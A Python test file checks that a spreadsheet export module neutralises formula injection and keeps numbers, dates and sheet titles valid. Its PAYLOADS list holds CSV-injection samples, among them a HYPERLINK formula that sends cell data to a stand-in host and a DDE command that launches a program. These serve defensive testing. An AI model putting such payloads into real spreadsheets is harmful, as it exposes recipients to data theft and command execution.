"""Spreadsheets: text is never a formula, numbers and days are real, and any text survives."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from convenant.sheets import Book, Column, Table, as_csv, safe_text
from convenant.sheets.book import MOST_IN_A_TITLE

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://kwaad.example?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 12345678",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
]
ORDINARY = ["", "Gieterij", "’t Hart", "3 - 2", "a=b", "Łódź", "12,5%"]


def table(*cells) -> Table:
    return Table("Blad", [Column("Kop")], [[cell] for cell in cells])


def book(*tables: Table):
    made = Book(title="Proef", creator="Ketenkompas").as_bytes(tables)
    return load_workbook(io.BytesIO(made))


def lines(content: bytes, separator: str = ";") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=separator))


class TestFormulas:
    """What a person typed is never run."""

    def test_excel_keeps_every_payload_as_text(self):
        sheet = book(table(*PAYLOADS)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.quotePrefix for cell in cells)
        assert [cell.value for cell in cells] == PAYLOADS

    def test_csv_gives_every_payload_a_quote(self):
        [_, *rows] = lines(as_csv(table(*PAYLOADS), "nl"))
        assert all(row[0].startswith("'") for row in rows)

    @pytest.mark.parametrize("text", ORDINARY)
    def test_an_ordinary_text_stays_as_it_is(self, text):
        assert safe_text(text) == text

    def test_heads_are_safe_too(self):
        made = Table("=Blad", [Column("=1+1")], [])
        sheet = book(made).active
        assert sheet["A1"].data_type == "s"
        assert lines(as_csv(made, "nl"))[0] == ["'=1+1"]


class TestValues:
    """Numbers and days are what they are, in each language."""

    def test_excel_holds_real_numbers_and_days(self):
        moment = datetime.datetime(2026, 3, 12, 14, 32, tzinfo=datetime.UTC)
        sheet = book(table(3, Decimal("12.5"), datetime.date(2026, 3, 12), moment, None)).active
        values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert values[:2] == [3, 12.5]
        assert values[2] == datetime.datetime(2026, 3, 12)
        assert values[3] == datetime.datetime(2026, 3, 12, 14, 32)
        assert sheet["A4"].is_date and sheet["A2"].data_type == "n"

    @pytest.mark.parametrize(("language", "number"), [("nl", "1250,5"), ("en", "1250.5")])
    def test_csv_speaks_the_language_of_the_reader(self, language, number):
        separator = ";" if language == "nl" else ","
        made = Table("x", [Column("a"), Column("b"), Column("c")], [])
        row = [Decimal("1250.5"), datetime.date(2026, 3, 12), None]
        content = as_csv(Table("x", made.columns, [row]), language)
        assert lines(content, separator)[1] == [number, "2026-03-12", ""]
        assert content.startswith("\ufeff".encode())

    def test_sheets_get_titles_that_excel_takes(self):
        titles = ["2.1.1", "a/b:c*d?[e]", "x" * 60, "X" * 60, "'", ""]
        made = book(*(Table(title, [Column("a")], []) for title in titles))
        assert len(made.sheetnames) == len(titles)
        assert all(len(title) <= MOST_IN_A_TITLE for title in made.sheetnames)

    @settings(max_examples=40, deadline=None)
    @given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=5))
    def test_any_text_makes_a_file_that_opens_without_formulas(self, texts):
        sheet = book(table(*texts)).active
        for row in sheet.iter_rows(min_row=2):
            assert row[0].data_type in ("s", "n")
            assert row[0].data_type == "s" or row[0].value is None
        assert as_csv(table(*texts), "nl").decode("utf-8-sig")
